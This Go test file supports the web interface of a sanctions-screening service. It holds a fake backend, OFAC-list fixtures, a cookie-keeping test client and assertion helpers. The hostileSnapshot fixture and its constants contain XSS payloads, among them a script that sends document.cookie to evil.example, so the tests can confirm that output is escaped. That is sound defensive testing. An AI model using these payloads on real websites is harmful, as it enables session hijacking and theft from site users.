package web

import (
	"context"
	"errors"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	interdict "github.com/interdict/interdict"
	"github.com/interdict/interdict/dataset"
	"github.com/interdict/interdict/internal/shared"
	"github.com/interdict/interdict/source"
	"github.com/interdict/interdict/store"
)

// Keys the fake backend knows.
const (
	analystKey  = "idk_test_analyst_3b9f0c1d2e"
	screenerKey = "idk_test_screener_77aa01"
	revokedKey  = "idk_test_revoked_5521"
	brokenKey   = "idk_test_store_down"
)

// fakeBackend screens against a real snapshot and records what it was
// asked, like the server's backend minus the audit store.
type fakeBackend struct {
	mu        sync.Mutex
	snap      *dataset.Snapshot
	queries   []interdict.Query
	keys      []interdict.APIKey
	screenErr error
	panicking bool
	// revoked are the key ids revoked since sign-in; checkErr is what
	// CheckKey answers when set (the key store failing).
	revoked  map[string]bool
	checkErr error
	checks   int
}

func newFake(snap *dataset.Snapshot) *fakeBackend { return &fakeBackend{snap: snap} }

func (f *fakeBackend) Snapshot() *dataset.Snapshot {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.snap
}

func (f *fakeBackend) Screen(ctx context.Context, key interdict.APIKey, q *interdict.Query) ([]interdict.Match, string, error) {
	f.mu.Lock()
	f.queries = append(f.queries, *q)
	f.keys = append(f.keys, key)
	err, snap, panicking := f.screenErr, f.snap, f.panicking
	f.mu.Unlock()
	if panicking {
		panic("screening exploded: /var/lib/interdict/secret")
	}
	if err != nil {
		return nil, "", err
	}
	ms, err := snap.Screener.Screen(q, true)
	return ms, snap.Version, err
}

func (f *fakeBackend) LookupKey(ctx context.Context, secret string) (interdict.APIKey, error) {
	created := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	switch secret {
	case analystKey:
		return interdict.APIKey{ID: "key-analyst", Name: "Ana Analyst", Role: interdict.RoleAnalyst, Created: created}, nil
	case screenerKey:
		return interdict.APIKey{ID: "key-screener", Name: "Sam Screener", Role: interdict.RoleScreener, Created: created}, nil
	case revokedKey:
		return interdict.APIKey{}, store.ErrRevoked
	case brokenKey:
		return interdict.APIKey{}, errors.New("sqlite: database /var/lib/interdict/state.db is locked")
	}
	return interdict.APIKey{}, store.ErrNotFound
}

func (f *fakeBackend) CheckKey(ctx context.Context, key interdict.APIKey) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.checks++
	switch {
	case f.checkErr != nil:
		return f.checkErr
	case f.revoked[key.ID]:
		return fmt.Errorf("fake: key %s: %w", key.ID, store.ErrRevoked)
	}
	return nil
}

// revoke marks a key id revoked, as the server's key list will show it.
func (f *fakeBackend) revoke(id string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.revoked == nil {
		f.revoked = map[string]bool{}
	}
	f.revoked[id] = true
}

func (f *fakeBackend) lastQuery(t *testing.T) interdict.Query {
	t.Helper()
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.queries) == 0 {
		t.Fatal("backend was not asked to screen")
	}
	return f.queries[len(f.queries)-1]
}

func (f *fakeBackend) screenings() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.queries)
}

var (
	ofacOnce sync.Once
	ofacSnap *dataset.Snapshot
	ofacErr  error
)

// ofacSnapshot is a real snapshot of the OFAC SDN list of 2024-05-03 with
// its 2025-12-24 companions, and the 2024-02-20 list as an earlier
// version, loaded once for the package's tests. It skips when the shared
// data is absent.
func ofacSnapshot(t testing.TB) *dataset.Snapshot {
	t.Helper()
	files := []string{
		"sources.csv",
		"ofac_sdn_2024-05-03/sdn.csv",
		"ofac_sdn_aux_2025-12-24/add.csv",
		"ofac_sdn_aux_2025-12-24/alt.csv",
		"ofac_sdn_aux_2025-12-24/sdn_comments.csv",
		"ofac_sdn_2024-02-20/sdn.csv",
	}
	var srcs []string
	for _, f := range files {
		srcs = append(srcs, shared.Data(t, strings.Split(f, "/")...))
	}
	ofacOnce.Do(func() {
		dir, err := os.MkdirTemp("", "interdict-web-test-")
		if err != nil {
			ofacErr = err
			return
		}
		defer os.RemoveAll(dir)
		// Copies, not links: the loader reads regular files only.
		for i, f := range files {
			dst := filepath.Join(dir, f)
			if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
				ofacErr = err
				return
			}
			b, err := os.ReadFile(srcs[i])
			if err != nil {
				ofacErr = err
				return
			}
			if err := os.WriteFile(dst, b, 0o644); err != nil {
				ofacErr = err
				return
			}
		}
		cat, err := source.Load(context.Background(), dir)
		if err != nil {
			ofacErr = err
			return
		}
		ofacSnap = dataset.Build(cat, time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC))
	})
	if ofacErr != nil {
		t.Fatal(ofacErr)
	}
	return ofacSnap
}

// hostile names and text that must come out escaped everywhere.
const (
	hostileName   = `<script>alert("pwned")</script> Evil Corp`
	hostileAlias  = `"><img src=x onerror=alert(1)> Ivan Badguy`
	hostileRemark = `</p><script>document.location='https://evil.example/'+document.cookie</script>`
)

// hostileSnapshot is a hand-made list whose every field tries to inject
// markup.
func hostileSnapshot(t testing.TB) *dataset.Snapshot {
	t.Helper()
	evil := &interdict.Entity{ID: "test:1", Source: "test", Kind: interdict.KindOrganization, AltKeys: []string{"test-group:77"},
		Titles: []string{"<b>Chairman</b>"}, Programs: []string{"<i>PROG</i>"}, Remarks: hostileRemark,
		Countries:   []string{"RU"},
		Addresses:   []interdict.Address{{Full: `<svg onload=alert(2)>`, Country: "RU"}},
		Identifiers: []interdict.Identifier{{Type: interdict.IDWebsite, Value: `javascript:alert(3)`, Label: `<u>site</u>`, Note: `"onmouseover="alert(4)`}},
		Vessel:      &interdict.Vessel{Type: `<marquee>Yacht</marquee>`},
		Links: []interdict.Link{
			{Type: interdict.LinkOwner, OtherName: `<a href="javascript:alert(5)">Owner</a>`, OtherID: "test:2", Note: `<em>note</em>`},
			{Type: interdict.LinkAssociate, OtherName: `<iframe src=//evil.example>`},
		},
	}
	evil.AddName(interdict.Name{Full: hostileName, Type: interdict.NamePrimary, Lang: `en" onclick="alert(6)`})
	evil.AddName(interdict.Name{Full: hostileAlias, Type: interdict.NameAKA})
	owner := &interdict.Entity{ID: "test:2", Source: "test", Kind: interdict.KindPerson,
		Links: []interdict.Link{{Type: interdict.LinkSubsidiary, OtherName: hostileName, OtherID: "test:1"}}}
	owner.AddName(interdict.Name{Full: `Ivan <b>Badguy</b>`, Type: interdict.NamePrimary})
	cat := &source.Catalog{Lists: []*source.List{{
		Source: "test",
		Live: &interdict.ListLoad{Source: "test", Format: `<h1>format</h1>`, Published: "2026-01-01", Coverage: interdict.CoverageFull,
			Files: []string{`list<script>.csv`}, Records: 3, Entities: []*interdict.Entity{evil, owner},
			Rejects: []interdict.Reject{{File: `bad<script>.csv`, Line: 3, Reason: `<img src=x onerror=alert(7)>`}},
			Notes:   []string{`<script>note()</script>`}},
		Notes: []string{`<script>choose()</script>`},
	}}}
	return dataset.Build(cat, time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC))
}

// client is a browser-like test client: it keeps cookies and does not
// follow redirects, so tests see each answer.
type client struct {
	t    *testing.T
	base string
	hc   *http.Client
}

func newServer(t *testing.T, b Backend, opts Options) (*httptest.Server, *client) {
	t.Helper()
	srv := httptest.NewServer(New(b, opts))
	t.Cleanup(srv.Close)
	return srv, newClient(t, srv)
}

func newClient(t *testing.T, srv *httptest.Server) *client {
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	return &client{t: t, base: srv.URL, hc: &http.Client{
		Jar:           jar,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}}
}

type answer struct {
	Status int
	Header http.Header
	Body   string
}

func (c *client) do(method, path string, form url.Values, header ...string) answer {
	c.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, err := http.NewRequest(method, c.base+path, body)
	if err != nil {
		c.t.Fatal(err)
	}
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		c.t.Fatal(err)
	}
	return answer{Status: resp.StatusCode, Header: resp.Header, Body: string(b)}
}

func (c *client) get(path string) answer { c.t.Helper(); return c.do(http.MethodGet, path, nil) }

func (c *client) post(path string, form url.Values) answer {
	c.t.Helper()
	return c.do(http.MethodPost, path, form)
}

var csrfRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// csrf reads the token of the first form on a page.
func csrf(t *testing.T, a answer) string {
	t.Helper()
	m := csrfRE.FindStringSubmatch(a.Body)
	if m == nil {
		t.Fatalf("no csrf field in page (status %d):\n%s", a.Status, a.Body)
	}
	return m[1]
}

// signIn signs c in with key and returns the session's CSRF token.
func (c *client) signIn(key string) string {
	c.t.Helper()
	form := c.get("/signin")
	if form.Status != http.StatusOK {
		c.t.Fatalf("GET /signin: %d", form.Status)
	}
	a := c.post("/signin", url.Values{"csrf": {csrf(c.t, form)}, "key": {key}})
	if a.Status != http.StatusSeeOther {
		c.t.Fatalf("sign-in with %s: status %d\n%s", key, a.Status, a.Body)
	}
	page := c.get("/")
	if page.Status != http.StatusOK {
		c.t.Fatalf("GET / after sign-in: %d\n%s", page.Status, page.Body)
	}
	return csrf(c.t, page)
}

// search posts the search form and follows the redirect to the results.
func (c *client) search(token string, form url.Values) answer {
	c.t.Helper()
	form.Set("csrf", token)
	a := c.post("/search", form)
	if a.Status != http.StatusSeeOther {
		return a
	}
	loc := a.Header.Get("Location")
	if !strings.HasPrefix(loc, "/results/") {
		c.t.Fatalf("search redirected to %q", loc)
	}
	return c.get(loc)
}

func mustContain(t *testing.T, body string, want ...string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(body, w) {
			t.Errorf("page lacks %q", w)
		}
	}
}

func mustNotContain(t *testing.T, body string, bad ...string) {
	t.Helper()
	for _, w := range bad {
		if strings.Contains(body, w) {
			t.Errorf("page contains %q", w)
		}
	}
}

var (
	rowRE  = regexp.MustCompile(`(?s)<tr[^>]*>(.*?)</tr>`)
	cellRE = regexp.MustCompile(`(?s)<t[hd][^>]*>(.*?)</t[hd]>`)
	tagRE  = regexp.MustCompile(`<[^>]*>`)
)

// rows reads every table row of a page as its cells' text joined by
// " | ", so tests check what a reader sees rather than the markup.
func rows(body string) []string {
	var out []string
	for _, r := range rowRE.FindAllStringSubmatch(body, -1) {
		var cells []string
		for _, c := range cellRE.FindAllStringSubmatch(r[1], -1) {
			cells = append(cells, strings.Join(strings.Fields(html.UnescapeString(tagRE.ReplaceAllString(c[1], " "))), " "))
		}
		out = append(out, strings.Join(cells, " | "))
	}
	return out
}

// mustHaveRow checks that a page has a table row reading exactly want.
func mustHaveRow(t *testing.T, body string, want ...string) {
	t.Helper()
	all := rows(body)
	for _, w := range want {
		found := false
		for _, r := range all {
			if r == w {
				found = true
				break
			}
		}
		if !found {
			t.Errorf("no row %q among:\n  %s", w, strings.Join(all, "\n  "))
		}
	}
}
